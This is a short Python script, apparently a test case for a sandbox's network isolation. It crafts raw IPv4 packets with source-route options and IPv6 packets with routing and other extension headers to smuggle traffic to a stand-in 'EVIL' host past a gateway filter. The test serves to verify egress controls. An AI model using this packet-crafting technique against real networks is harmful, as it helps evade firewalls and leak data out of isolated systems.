# SPDX-License-Identifier: Apache-2.0
# Trick: source routes and extension headers: where to go is written beside the
#	destination
# Gain: the destination that is judged isn't the last
from trick import *

s = packets("raw socket", socket.AF_INET, socket.SOCK_RAW, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
src = "11.0.0.2" if BARE else GUEST
for via in (API, GATE, "11.0.0.1"):
    for kind in (131, 137):
        options = bytes([kind, 7, 4]) + socket.inet_aton(EVIL) + b"\0"
        for proto, data in ((6, tcp_segment(src, EVIL, 4001, 443)), (17, udp_datagram(53, 53, b"brig-smuggled"))):
            try:
                s.sendto(ipv4(via, proto, data, options=options), (via, 0))
            except OSError as e:
                hear(repr(e).encode())
six = packets("raw socket", socket.AF_INET6, socket.SOCK_RAW, 255)
try:
    six.setsockopt(socket.IPPROTO_IPV6, 36, 1)  # IPV6_HDRINCL
except OSError as e:
    stopped(e)
me = socket.inet_pton(socket.AF_INET6, "2a00:11::2" if BARE else GUEST6)
there = socket.inet_pton(socket.AF_INET6, EVIL6)
for kind, ext in ((43, b"\x11\2\0\1\0\0\0\0" + there), (43, b"\x11\2\4\1\0\0\0\0" + there), (0, b"\x11\0\1\4\0\0\0\0"),
                  (60, b"\x11\0\1\4\0\0\0\0"), (44, b"\x11\0\0\1\0\0\0\7"), (135, b"\x3b\0\5\0\0\0\0\0")):
    data = ext + udp_datagram(53, 443, b"brig-smuggled")
    for dst in (there, socket.inet_pton(socket.AF_INET6, API6)):
        try:
            six.sendto(struct.pack("!IHBB", 6 << 28, len(data), kind, 64) + me + dst + data,
                       (socket.inet_ntop(socket.AF_INET6, dst), 0))
        except OSError as e:
            hear(repr(e).encode())
stopped("none came through")
